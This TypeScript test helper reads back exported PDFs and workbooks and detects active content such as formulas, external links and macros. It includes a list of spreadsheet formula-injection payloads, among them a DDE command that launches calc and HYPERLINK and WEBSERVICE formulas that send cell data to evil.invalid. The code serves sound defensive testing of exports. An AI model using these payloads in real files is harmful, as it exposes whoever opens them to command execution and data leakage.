import { strFromU8, unzipSync } from 'fflate';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';

/** What a reader of a PDF file gets: the text of every page, and the properties as the viewer shows them. */
export interface ReadPdf {
  readonly pages: readonly string[];
  readonly information: Readonly<Record<string, unknown>>;
  /** The links and other annotations of all pages. */
  readonly annotations: readonly { subtype: string; url?: string; dest?: unknown }[];
}

/** Reads a PDF file back. White space is made even, as lines break where the page ends. */
export async function readPdf(bytes: Uint8Array): Promise<ReadPdf> {
  const task = getDocument({ data: bytes.slice(), verbosity: 0, useSystemFonts: false });
  const document = await task.promise;
  const pages: string[] = [];
  const annotations: { subtype: string; url?: string; dest?: unknown }[] = [];
  for (let number = 1; number <= document.numPages; number += 1) {
    const page = await document.getPage(number);
    const { items } = await page.getTextContent();
    const text = items.map((item) => ('str' in item ? item.str + (item.hasEOL ? ' ' : '') : '')).join('');
    pages.push(text.replace(/\s+/g, ' '));
    annotations.push(...(await page.getAnnotations()));
  }
  const { info } = await document.getMetadata();
  await task.destroy();
  return { pages, information: info as Record<string, unknown>, annotations };
}

/** The XML parts of a workbook by their path. */
export function workbookParts(bytes: Uint8Array): Map<string, string> {
  return new Map(Object.entries(unzipSync(bytes)).map(([path, content]) => [path, strFromU8(content)]));
}

/** Everything that could run or call out when a workbook is opened; an honest export has none of it. */
export function activeContent(bytes: Uint8Array): string[] {
  const found: string[] = [];
  for (const [path, xml] of workbookParts(bytes)) {
    if (/<f[\s>/]/.test(xml)) found.push(`${path}: formula`);
    if (/<hyperlinks?[\s>/]/.test(xml) || /TargetMode="External"/.test(xml)) found.push(`${path}: link`);
    if (/<(ddeLink|oleLink|externalReference)/.test(xml)) found.push(`${path}: external`);
    if (/vba|activeX|embeddings/i.test(path)) found.push(path);
  }
  return found;
}

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'] as const;
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.invalid/?x="&A1,"click")',
  'WEBSERVICE("http://evil.invalid/")',
] as const;

/** Forty and more texts that a careless export would turn into formulas. */
export const FORMULA_PAYLOADS: readonly string[] = [
  ...STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`)),
  '","=1+1',
  ';=1+1',
  "'=1+1",
  '"=1+1"',
];
